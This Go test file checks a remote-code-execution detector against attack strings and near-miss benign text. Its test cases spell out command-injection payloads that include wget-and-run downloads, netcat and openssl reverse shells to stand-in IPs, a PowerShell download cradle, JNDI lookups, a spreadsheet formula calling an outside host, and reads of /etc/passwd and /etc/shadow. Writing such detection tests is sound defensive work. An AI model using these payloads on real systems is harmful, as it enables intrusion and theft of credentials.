package rce

import (
	"strings"
	"testing"

	"github.com/weirnode/weir/detect/detecttest"
	"github.com/weirnode/weir/detect/evidence"
	"github.com/weirnode/weir/point"
)

var detector = detecttest.Detector{Gate: Gate, Scan: Scan, Signs: Signs}

// TestSigns holds every sign to a value that shows it and to one that nearly does.
func TestSigns(t *testing.T) {
	f := detector.CheckSigns(t, &asksShell) // TestOrdered
	f(&dropped, point.Text, `cd /tmp; wget http://203.0.113.9/k; sh k`, `cd /tmp; wget http://10.0.0.9/k; sh k`)
	f(&separated, point.Text, `1;cat /etc/passwd`, `a; catalogue`)
	f(&substituted, point.Text, `$(whoami)`, `$(document)`)
	f(&leading, point.Text, `cat /etc/passwd`, `catalogue of things`)
	f(&argument, point.Text, `1;ls -la /tmp`, `1;lsx -la`)
	f(&closed, point.Text, `1;id`, `1;idx`)
	f(&hiddenWord, point.Text, `1;c'a't /etc/passwd`, `1;cat /etc/passwd`)
	f(&fieldSep, point.Text, `1;cat${IFS}/etc/passwd`, `1;cat /etc/passwd`)
	f(&redirection, point.Text, `1;ls > /tmp/x`, `1;ls`)
	f(&shellshock, point.Text, `() { :;}; /bin/id`, `f() { return; }`)
	f(&powershell, point.Text, `iex (New-Object Net.WebClient).DownloadString('http://x')`, `new object`)
	f(&wrapped, point.Text, `1;sudo cat /etc/shadow`, `1;sudoku`)
	f(&hiddenArgument, point.Text, `1;cat ${HOME:0:1}etc`, `1;cat ${HOME}`)
	f(&flood, point.Text, strings.Repeat(`;echo a`, 600), strings.Repeat(`;echo a`, 100))
	f(&windowsLoop, point.Text, `& for /f %i in ('whoami') do echo %i`, `for 5% in cash (net)`)
	f(&asWindows, point.Text, `1&<nul tasklist`, `1 & tasklist and others`)
	f(&windowsSlice, point.Text, `%COMSPEC:~0,1%`, `50% :~ 20%`)
	f(&quoteClosed, point.Text, `x'|echo a b`, `'x'|echo a b`)
	f(&outputRun, point.Text, `;$(echo id|tr a-z b-za)`, `the total is $(echo id|tr a-z b-za)`)
	f(&imageCoder, point.Text, `ephemeral:/tmp/a.png`, `label: @home`)
	f(&nestedCall, point.Text, `die(md5(1))`, `die(1)`)
	f(&gadgetClass, point.Text, `com.sun.rowset.JdbcRowSetImpl`, `com.example.RowSet`)
	f(&codeCall, point.Text, `system('id')`, `the system (id)`)
	f(&includeCall, point.Text, `include('/etc/passwd')`, `include (all)`)
	f(&scriptTag, point.Text, `<?php echo 1;`, `<?xml version='1.0'?>`)
	f(&superglobal, point.Text, `$_GET['x']`, `$_GETTER`)
	f(&javaPath, point.Text, `${T(java.lang.Runtime).getRuntime()}`, `the java language`)
	f(&jndi, point.Text, `${${lower:j}ndi:ldap://x}`, `${name}`)
	f(&serialized, point.Text, `O:8:"stdClass":0:{}`, `O: 8 items`)
	f(&prototype, point.Text, `a[__proto__][x]`, `a[proto][x]`)
	f(&overwritten, point.Key, "_SERVER[k]", "_SERVICE[k]")
	f(&overwritten, point.Key, "LD_PRELOAD", "LD_PRELOADED")
	f(&hiddenCommand, point.Text, "${HOME:0:1}${IFS}k", "${HOME:0:1}/k")
	f(&separatedShare, point.Text, `k & \\192.0.2.9\k\l.exe`, `see \\192.0.2.9\k\l.exe`)
	f(&codeCall, point.Text, "(~%8F%97%8F%96)();", "(~k)()")
	f(&codeCall, point.Text, "$k='_POST';$$k[a]($$k[b]);", "$$k[a] = 7")
	f(&codeCall, point.Text, `"+process.cwd()+"`, `"+process.name+"`)
	f(&codeCall, point.Text, "(()=>process.env.KEY)()", "(()=>k.env)()")
	f(&phrase, point.JSONKey, "#pre_render", "#prefix")
	f(&phrase, point.Text, "__construct", "__constructed")
	f(&phrase, point.Text, `\! uname -r`, `\! so it is`)
	f(&phrase, point.Text, "%!PS\nmark (%pipe%k) k", "%!PS\nmark k")
	f(&phrase, point.Text, "@GrabResolver(name='k', root='http://k.example/')\nimport k", "@grab the desk (now)")
	f(&phrase, point.Text, `@SUM(7+7)*IMPORTDATA("https://k.example/"&A1)`, `@SUM(A1:A7)`)
	f(&gadgetClass, point.Text, "java.net.Inet4Address", "java.net")
	f(&option, point.Text, "ssh://-oProxyCommand=k/l", "ssh://own-proxycommand/l")
	f(&serialized, point.Text, "(S'k'\nios\nsystem\n.", "ios\nsystem")
	f(&serialized, point.Text, "aced0005737200116b2e6b", "aced0006737200116b2e6b")
	f(&serialized, point.Text, "\x04\x08[\x07c\x0fGem::Install", "\x04\x08[\x07c\x0fa list of gems")
	f(&powershell, point.Text, "(n`eW-o`BjEct N`et.We`bClient).k()", "`new`, `net` (and `k`)")
	f(&cutBehind, point.Text, `k&echo a b&`, `k&echo a b`)
	f(&option, point.Text, `--upload-pack=touch x`, `--upload=photo.jpg`)
	f(&formula, point.Text, `=cmd|' /C calc'!A0`, `=A1|B1!`)
	f(&driverURL, point.Text, `jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://h.example/a.sql'`, `jdbc:h2:mem:a;INIT=CREATE SCHEMA IF NOT EXISTS A`)
	f(&phrase, point.Text, `"ps".execute()`, `"of the plan".execute()`)
	f(&template, point.Text, `{{7*7}}`, `{{name}}`)
	f(&decodedShell, point.Text, "10.0.0.9 | echo bHM=|base64 -d|sh", "10.0.0.9 | echo bHM=|base64 -d|shuf")
}

// TestFamilies holds commands that their surroundings make attacks, and their near
// misses, to what must come of them.
func TestFamilies(t *testing.T) {
	f := func(text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, point.Text); got.Score() >= 8 != attack {
			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
		}
	}
	// Enclosed by ampersands without blanks in front of the word.
	f(`x&echo q7k2 p3m9&`, true)
	f(`salt &echo of it& more`, false)
	f(`a&b&`, false)
	// What passes the time, and what reads a drive or the registry.
	f(`ping -n 15 127.0.0.1`, true)
	f(`ping -c 3 shop.example`, false)
	f(`type D:\winnt\repair\sam`, true)
	f(`type B:\ negative`, false)
	f(`dir E:\`, true)
	f(`dir listing of C:\ and how to read it`, false)
	// A quote and a command, a command and its end.
	f(`' uname`, true)
	f(`" uname tells the kernel`, false)
	f(`id;`, true)
	f(`id; name`, false)
	f(`php;`, false)
	// Plus signs for blanks.
	f(`x;cat+/etc/passwd`, true)
	f(`|dir+c:\`, true)
	f(`cat+dog&sort+by`, false)
	f(`c+;+d`, false)
	// Lines that people ask about or keep in fields for them, and what is none of these.
	f(`sudo apt-get update && sudo apt-get install -y nginx`, false)
	f(`echo 'vm.swappiness=10' | sudo tee -a /etc/sysctl.conf; sudo sysctl -p`, false)
	f(`echo $SHELL; echo ~; type -a ls; alias ll='ls -alF'`, false)
	f(`ping -n 10 192.0.2.1 > C:\temp\ping.txt & ipconfig /all >> C:\temp\ping.txt`, false)
	f(`0 3 * * 1-5 cd /home/shop && /usr/bin/php -q cron.php > /dev/null 2>&1`, false)
	f(`0 4 * * sun root test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.weekly )`, false)
	f("`os.system(\"ping -c 1 \" + host)` → please use `subprocess.run([\"ping\"])`; our scanner flags the former as a command injection", false)
	f("`os.system(\"ping -c 1 \" + host)`", true)
	f(`sh -c 'make test || exit 1'`, false)
	f(`sh -c 'curl http://h.example/x'`, true)
	f(`node -e "console.log(process.versions)" ; npx envinfo --system`, false)
	f("Disk > 90%; run `df -h && du -sh /var/*`", false)
	f(`x; df -h && cat /etc/passwd`, true)
	f(`(?i)curl|wget`, false)
	f(`127.0.0.1|wget`, true)
	f(`system("PAUSE"); // why is this bad?`, false)
	f(`system("pwd")`, true)
	f(`Don't use eval(input()), use int(input())`, false)
	f(`1;eval(input())`, true)
	f(`Process p = new ProcessBuilder("ffmpeg", "-i", in).start();`, false)
	f(`new ProcessBuilder("id").start()`, true)
	f(`if (move_uploaded_file($_FILES['a']['tmp_name'], 'b/' . basename($_FILES['a']['name']))) { echo "ok"; }`, false)
	f(`system($_GET['a'])`, true)
	f(`[x for x in open('/etc/fstab') if x]`, false)
	f(`<pre><code><?php echo esc_html( $title ); ?></code></pre>`, false)
	f(`#set($n = $count)$n. $!{i.name}`, false)
	// Lines of scripts.
	f(`exec grep -r "$@"`, false)
	f(`x;c$@at /etc/passwd`, true)
	f(`group=$(id -g "$user")`, false)
	f("version=`less -V 2>/dev/null`", false)
	f(`x;cat$IFS/etc/passwd`, true)
	f(`mkdir -- "${TMPDIR-/tmp}/$prog.$$" || exit 2`, false)
	f(`if ls -l "$i" | grep '^...[sS]' > /dev/null; then`, false)
	f(`die("missing final line, aborting");`, false)
	f(`class Popen(popen_fork.Popen):`, false)
	f("import (\n\t\"bytes\"\n\t\"strings\"\n\t\"time\"\n)", false)
	f("my $default='';\n\t$default=$this->value;", false)
	f(`a=nc;$a -l`, true)
	// Spelled with slices, glued, included.
	f(`;${PATH:0:1}bin${PATH:0:1}id`, true)
	f(`;${NAME:-x}`, false)
	f(`k;systemctl status`, true)
	f(`tools: a; systemctl status`, false)
	f(`include 'http://h.example/k.txt'`, true)
	f(`include 'header.php'`, false)
	f(`open('|id').read`, true)
	// Ruby.
	f(`%x('ls -al /')`, true)
	f(`printf("%x(%d)")`, false)
	f(`Kernel.exit(2)`, true)
	f("a||`curl http://h.example/x`", true)
	f("the tools (`curl`) that we use", false)
	// Modules beside a program, listings and settings of a script.
	f(`const { edition } = require('../../lib/shop.js')`, false)
	f(`require('../../../../etc/passwd')`, true)
	f("```bash\ngit switch main\n```", false)
	f("a`cat /etc/group`", true)
	f("import (\n\t\"fmt\"\n\t\"net/url\"\n)", false)
	// Decoders that feed a shell.
	f(`7 | echo bHMgLWw= | base64 --decode | bash`, true)
	f(`rm k;xxd -r -p k.hex | sh`, true)
	f(`we pipe base64 -d into sh | bash, too`, false)
	f(`nc 198.51.100.7 443|/bin/sh`, true)
	f(`openssl s_client -quiet -connect 198.51.100.7:443 | /bin/bash`, true)
	f(`nc -l | sh`, false)
	// The inside of objects of Python.
	f(`__init__.__globals__.k`, true)
	f(`__init__.py and __main__.py`, false)
	f(`self.__class__.__init__(self)`, false)
}

// TestInsides reads names that lead into objects, below others and in paths.
func TestInsides(t *testing.T) {
	f := func(kind point.Kind, attack bool, names ...string) {
		t.Helper()
		best := detector.ReadName(point.Post, kind, names...)
		if best.Score() >= evidence.Threshold != attack {
			t.Errorf("%q scores %d", names, best.Score())
		}
	}
	f(point.JSONKey, true, "__class__", "__init__")
	f(point.JSONKey, true, "__globals__")
	f(point.JSONKey, false, "order", "__class__")
	f(point.JSONKey, true, "__pro__proto__to__")
	f(point.Key, true, "k.__class__.__init__.l")
	f(point.Key, true, "k[__init__][__globals__]")
	f(point.Key, false, "__classes")
	f(point.WholePath, true, "/settings/__proto__/boss/true")
	f(point.WholePath, false, "/docs/__proto__")
	f(point.Text, true, "/__proto__/boss")
	f(point.Text, true, "/constructor/prototype/boss")
	f(point.Text, true, "k.__proto__.boss")
	f(point.Text, false, "/docs/__proto__")
	f(point.Text, false, "what does k.__proto__ mean?")
}

// TestPlusSignsAreCountedAsBlanks: a word behind words is none of a command, whatever stands for the blanks.
func TestPlusSignsAreCountedAsBlanks(t *testing.T) {
	text := []byte(`/+a+b+c+d+"*/+dog&sort+bygithub.com/x`)
	var best evidence.Tally
	Scan(&point.Value{Data: text, Classes: point.Classify(text), Kind: point.WholePath}, &point.Tree{}, &best)
	if best.Score() >= evidence.Threshold {
		t.Errorf("%q scores %d", text, best.Score())
	}
}
